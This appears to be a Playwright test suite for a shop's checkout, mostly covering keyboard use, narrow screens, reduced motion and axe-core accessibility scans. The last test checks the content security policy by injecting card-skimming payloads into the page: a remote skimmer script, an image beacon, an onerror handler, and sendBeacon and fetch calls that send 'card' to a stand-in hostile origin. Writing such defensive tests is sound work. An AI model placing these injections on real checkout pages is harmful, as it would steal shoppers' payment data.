/** The shop for those who use a keyboard, a narrow screen, less motion or a screen reader; and its policy, seen from inside. */
import { describe, expect, it } from '@jest/globals';
import axe, { type AxeResults } from 'axe-core';
import type { Frame, Locator } from 'playwright-core';
import { eventually } from './eventually.ts';
import { inAShop } from './in-a-shop.ts';
import { declinedCard, goodCard, type Payer } from './payer.ts';

const given = inAShop();
const minute = 60_000;

const hasFocus = (locator: Locator): Promise<boolean> =>
  locator.evaluate((element) => document.hasFocus() && document.activeElement === element);

/** Presses Tab until the element has the focus; the focus of another frame shows a moment later. Answers how often. */
async function tabTo({ page }: Payer, target: Locator, most = 20): Promise<number> {
  for (let presses = 1; presses <= most; presses += 1) {
    await page.keyboard.press('Tab');
    if (await eventually(() => hasFocus(target), Boolean, most === 1 ? 5_000 : 100)) return presses;
  }
  throw new Error(`Tab did not reach ${target.toString()}`);
}

/** From the field before it, by one Tab for each. */
async function typeCardByKeyboard(payer: Payer, card: typeof goodCard): Promise<void> {
  for (const name of ['number', 'expiryMonth', 'expiryYear', 'securityCode'] as const) {
    await tabTo(payer, payer.field(name), 1);
    await payer.field(name).pressSequentially(card[name]);
    expect(await payer.field(name).inputValue()).toBe(card[name]);
  }
}

describe('With a keyboard only', () => {
  it('a person orders, is declined, and pays: Tab goes from field to field, and the focus is seen', async () => {
    const { payer, gateway } = given;
    const { page } = payer;
    await payer.goTo('/');
    await tabTo(payer, page.getByRole('button', { name: 'Add to cart: Fountain pen' }));
    await page.keyboard.press('Enter');
    await tabTo(payer, page.getByRole('button', { name: 'Go to checkout' }));
    await page.keyboard.press('Enter');
    await payer.cardFormIsReady();
    const orderId = new URL(page.url()).pathname.split('/').at(-1) ?? '';

    expect(await tabTo(payer, page.getByRole('link', { name: 'Skip to the content' }))).toBe(1);
    await page.keyboard.press('Enter');
    await typeCardByKeyboard(payer, declinedCard);
    await tabTo(payer, payer.field('nameOnCard'), 1);
    await tabTo(payer, payer.payButton(), 1);
    const outline = await payer.payButton().evaluate((button) => getComputedStyle(button).outline);
    expect(outline).toMatch(/solid [23]px|[23]px solid/);
    await page.keyboard.press('Space');
    await payer.isTold('declined');

    // The message has the focus, so that Tab goes on to the empty fields of the next card.
    expect(await eventually(() => hasFocus(page.locator('#checkout-alert')), Boolean)).toBe(true);
    await payer.cardFormIsReady();
    await typeCardByKeyboard(payer, goodCard);
    await page.keyboard.press('Enter');
    await payer.seesReceipt();
    expect(await gateway.charges(orderId)).toHaveLength(1);
  });

  it('a person who mistyped is brought to the first wrong field', async () => {
    const { payer } = given;
    await payer.checkOut();
    await payer.typeCard({ ...goodCard, expiryMonth: '13', securityCode: '' });
    await payer.field('expiryMonth').press('Enter');
    await payer.isTold('Please check the marked card details.');
    expect(await eventually(() => hasFocus(payer.field('expiryMonth')), Boolean)).toBe(true);
  });
});

/** Of the page with its stylesheet: a page that is still arriving shows its text first, and is measured as it stands. */
const widthOf = async ({ page }: Payer): Promise<number> => {
  await page.waitForLoadState('load');
  return page.evaluate(() => document.documentElement.scrollWidth);
};

describe('On a screen of 320 pixels', () => {
  it('no page scrolls sideways, and the whole card form can be used', async () => {
    const { payer, gateway } = given;
    const { page } = payer;
    await page.setViewportSize({ width: 320, height: 640 });
    const fits = async (where: string) => expect([where, await widthOf(payer)]).toEqual([where, 320]);
    await payer.goTo('/');
    await page.getByRole('button', { name: 'Add to cart: Reading lamp' }).click();
    await fits('home');
    await payer.checkOut(99);
    await fits('checkout');
    for (const part of [page.locator('#card-fields iframe'), payer.payButton()])
      for (const one of await part.all()) {
        const box = await one.boundingBox();
        expect(box?.width).toBeGreaterThanOrEqual(90);
        expect(box?.height).toBeGreaterThanOrEqual(40);
        expect((box?.x ?? 0) + (box?.width ?? 0)).toBeLessThanOrEqual(320);
      }
    await payer.payButton().click();
    await payer.isTold('marked');
    await fits('errors');
    await payer.cardFormIsReady();
    await payer.pay(declinedCard);
    await payer.isTold('declined');
    await payer.cardFormIsReady();
    await fits('declined');
    await gateway.fault({ operation: 'pay', fault: 'pendingThen', ms: minute });
    await payer.pay(goodCard);
    await payer.sees('processing');
    await fits('processing');
    await gateway.timePasses(minute);
    await payer.seesReceipt();
    await fits('receipt');
    await payer.goTo('/orders');
    await fits('orders');
  });
});

describe('For who asked for less motion', () => {
  it('the spinner of a payment hardly turns', async () => {
    const { payer, gateway } = given;
    const orderId = await payer.checkOut();
    const turn = () =>
      payer.page.locator('#pay .spinner').evaluate((spinner) => {
        const { animationName, animationDuration } = getComputedStyle(spinner);
        return animationName === 'none' ? Infinity : parseFloat(animationDuration);
      });
    await gateway.fault({ operation: 'pay', fault: 'delay', ms: minute });
    await payer.pay(goodCard);
    await gateway.payArrives(orderId);
    expect(await turn()).toBeLessThan(2);
    await payer.page.emulateMedia({ reducedMotion: 'reduce' });
    expect(await turn()).toBeGreaterThanOrEqual(5);
    await gateway.timePasses(minute);
    await payer.seesReceipt();
  });
});

/** A frame of one field is no page of its own: it needs no heading and no landmark. */
const rulesOfWholePages = ['landmark-one-main', 'page-has-heading-one', 'region'];

/** What axe-core finds, of whatever impact. */
async function faultsIn(frame: Frame, exceptRules: readonly string[] = []): Promise<string[]> {
  await frame.evaluate(axe.source);
  const rules = Object.fromEntries(exceptRules.map((id) => [id, { enabled: false }]));
  const options = JSON.stringify({ iframes: false, rules, resultTypes: ['violations'] });
  const { violations } = await frame.evaluate<AxeResults>(`axe.run(document, ${options})`);
  return violations.map(
    ({ id, impact, nodes }) =>
      `${impact}: ${id} at ${nodes.map(({ target }) => target.join(' ')).join(', ')}`,
  );
}

const faultsOf = ({ page }: Payer): Promise<string[]> => faultsIn(page.mainFrame());

async function faultsOfFields({ page }: Payer): Promise<string[]> {
  const fields = page.frames().filter((frame) => frame !== page.mainFrame());
  expect(fields).toHaveLength(5);
  return (await Promise.all(fields.map((field) => faultsIn(field, rulesOfWholePages)))).flat();
}

const nothingOn = (pages: readonly string[]) => Object.fromEntries(pages.map((page) => [page, []]));

describe('axe-core finds nothing to object to', () => {
  it('on the other pages of a customer', async () => {
    const { payer, gateway } = given;
    const found: Record<string, string[]> = {};
    await payer.goTo('/');
    await payer.page.getByRole('button', { name: 'Add to cart: Reading lamp' }).click();
    found['home'] = await faultsOf(payer);
    await gateway.fault({ operation: 'script', fault: 'status', status: 500 });
    await payer.goTo(`/checkout/${await payer.order()}`);
    await payer.isTold('could not be loaded');
    found['checkout without its form'] = await faultsOf(payer);
    for (const path of ['/orders', '/test-cards', '/nowhere']) {
      await payer.goTo(path);
      found[path] = await faultsOf(payer);
    }
    expect(found).toEqual(nothingOn(Object.keys(found)));
  });

  it('from the checkout to the receipt', async () => {
    const { payer, gateway } = given;
    const found: Record<string, string[]> = {};
    await payer.checkOut();
    found['checkout'] = await faultsOf(payer);
    await payer.payButton().click();
    await payer.isTold('marked');
    found['checkout with errors'] = await faultsOf(payer);
    found['fields with errors'] = await faultsOfFields(payer);
    await payer.cardFormIsReady();
    await payer.pay(declinedCard);
    await payer.isTold('declined');
    await payer.cardFormIsReady();
    found['checkout after a decline'] = await faultsOf(payer);
    await gateway.fault({ operation: 'pay', fault: 'pendingThen', ms: minute });
    await payer.pay(goodCard);
    await payer.sees('processing');
    found['order in progress'] = await faultsOf(payer);
    await gateway.timePasses(minute);
    await payer.seesReceipt();
    found['receipt'] = await faultsOf(payer);
    expect(found).toEqual(nothingOn(Object.keys(found)));
    expect(Object.keys(found)).toHaveLength(6);
  });

  it('on the pages of the operator, with a decision to be made', async () => {
    const { payer, gateway } = given;
    const orderId = await payer.checkOut();
    await gateway.chargesWrongly(orderId);
    await payer.pay(goodCard);
    await payer.sees('needs_attention');
    const paid = await payer.checkOut();
    await payer.pay(goodCard);
    await payer.seesReceipt();
    const operator = await given.operator();
    await operator.page.setViewportSize({ width: 320, height: 640 });
    for (const path of [
      '/operator',
      `/operator/orders/${orderId}`,
      `/operator/orders/${paid}`,
      `/operator/orders/${paid}/refund?key=refund-1&amount=1.00`,
      `/operator/orders/${paid}/refund?key=refund-1&amount=99.00`,
      '/operator/outbox',
    ]) {
      await operator.goTo(path);
      expect([path, await faultsOf(operator)]).toEqual([path, []]);
      expect([path, await widthOf(operator)]).toEqual([path, 320]);
    }
  });

  it('on a narrow screen with a cart, which says at its edge what went into it', async () => {
    const { payer } = given;
    const { page } = payer;
    await page.setViewportSize({ width: 320, height: 640 });
    await payer.goTo('/');
    const news = page.locator('#cart-news');
    expect(await news.isVisible()).toBe(false);
    await page.getByRole('button', { name: 'Add to cart: Fountain pen' }).click();
    expect(await news.innerText()).toBe('Fountain pen: 1 in your cart. Total $64.00');
    const box = await news.boundingBox();
    expect(box && box.y >= 0 && box.y + box.height <= 640).toBe(true);
    expect([await faultsOf(payer), await widthOf(payer)]).toEqual([[], 320]);
    await news.click();
    const isSeen = () =>
      page.locator('#cart-title').evaluate((title) => title.getBoundingClientRect().y < 640);
    expect(await eventually(isSeen, Boolean)).toBe(true);
  });

  it('though it would: it sees a field without a label', async () => {
    const { payer } = given;
    await payer.goTo('/');
    await payer.page.evaluate(() => document.body.append(document.createElement('input')));
    expect(await faultsOf(payer)).toContainEqual(expect.stringMatching(/^critical: label at .*input/));
  });
});

describe('The policy of the checkout', () => {
  it('lets nothing that was injected run, load or send, and each try is seen', async () => {
    const { payer } = given;
    const thief = await given.hostile('stolen');
    await payer.checkOut();
    const ran = await payer.page.evaluate(async (to) => {
      const add = (tag: string, properties: object) =>
        document.body.append(Object.assign(document.createElement(tag), properties));
      add('script', { textContent: 'window.stolen = true' });
      add('script', { src: `${to}/skimmer.js` });
      add('img', { src: `${to}/?card=1` });
      add('iframe', { src: `${to}/` });
      document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="window.stolen = true">');
      navigator.sendBeacon(`${to}/`, 'card');
      return fetch(to, { method: 'POST', mode: 'no-cors', body: 'card' }).then(
        () => 'sent',
        () => ('stolen' in window ? 'ran' : 'nothing'),
      );
    }, thief.origin);
    expect(ran).toBe('nothing');
    const refused = await eventually(
      () => payer.violations,
      (all) => all.length >= 7,
    );
    expect(refused.length).toBeGreaterThanOrEqual(7);
    payer.violations.length = 0;
    expect(thief.requests).toEqual([]);
  });
});
